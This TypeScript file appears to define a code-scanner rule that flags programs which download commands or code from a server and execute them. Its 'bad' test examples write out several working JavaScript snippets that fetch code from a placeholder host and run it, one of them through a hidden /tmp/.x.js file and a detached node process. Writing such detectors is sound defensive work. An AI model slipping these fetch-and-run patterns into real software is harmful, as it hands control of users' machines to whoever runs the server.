import { defineRule } from '../../rule.ts';
import { isFromServer } from '../../extension/isFromServer.ts';
import { checkScripts } from '../code/checkScripts.ts';
import { isFromKnownServer, isFromOwnComputer } from '../code/isFromKnownServer.ts';
import { processRuns } from './processRuns.ts';

export const serverCommands = defineRule({
  id: 'server-commands',
  title: 'A server decides which commands run',
  severity: 'critical',
  confidence: 'high',
  category: 'code',
  applies: 'repository',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1105/', 'https://attack.mitre.org/tactics/TA0011/'],
  why: 'What runs is fetched at the moment it runs. Whoever owns the server, or breaks into it, has every machine on which the code is started.',
  remedy: 'Do not run it. Name the programs in the code, and let a server choose among fixed, named actions.',
  check: checkScripts(function* ({ script, hit, facts }) {
    for (const run of processRuns(script)) {
      if (!isFromServer(facts, script, run.command) || isFromOwnComputer(facts, script, run.command)) continue;
      yield hit(
        run.value,
        isFromKnownServer(facts, script, run.command) ? {} : { severity: 'high', confidence: 'medium' },
      );
    }
  }),
  examples: {
    bad: [
      "const { exec } = require('child_process');\nfetch('https://a.dev/task').then((r) => r.json()).then((task) => {\n  exec(task.command);\n});\n",
      "const { spawn } = require('child_process');\nfetch('https://a.dev/x').then((r) => r.text()).then((code) => {\n  spawn('node', ['-e', code], { detached: true });\n});\n",
      "const { spawn } = require('child_process');\nfetch('https://a.dev/x').then((r) => r.text()).then((code) => {\n  const child = spawn(process.execPath, ['-'], { stdio: ['pipe', 'ignore', 'ignore'] });\n  child.stdin.end(code);\n});\n",
      "const { exec } = require('child_process');\nconst fs = require('fs');\nfetch('https://a.dev/x').then((r) => r.text()).then((code) => {\n  fs.writeFileSync('/tmp/.x.js', code);\n  exec('node /tmp/.x.js');\n});\n",
      "const fs = require('fs');\nfetch('https://a.dev/x').then((r) => r.text()).then((code) => {\n  fs.writeFileSync(__dirname + '/cache.js', code);\n  require('./cache.js');\n});\n",
    ].map((text) => ({ files: { 'index.js': text } })),
    good: [
      "const { exec } = require('child_process');\nfetch('https://a.dev/repo').then((r) => r.json()).then((repo) => {\n  exec('git clone ' + JSON.stringify(repo.url));\n});\n",
      "const { spawn } = require('child_process');\nfetch('https://a.dev/x').then((r) => r.json()).then((data) => {\n  const child = spawn('less', []);\n  child.stdin.end(data.text);\n});\n",
      "const fs = require('fs');\nconst { exec } = require('child_process');\nfetch('https://a.dev/x').then((r) => r.text()).then((list) => {\n  fs.writeFileSync('list.txt', list);\n  exec('npm test');\n});\n",
    ].map((text) => ({ files: { 'index.js': text } })),
  },
});
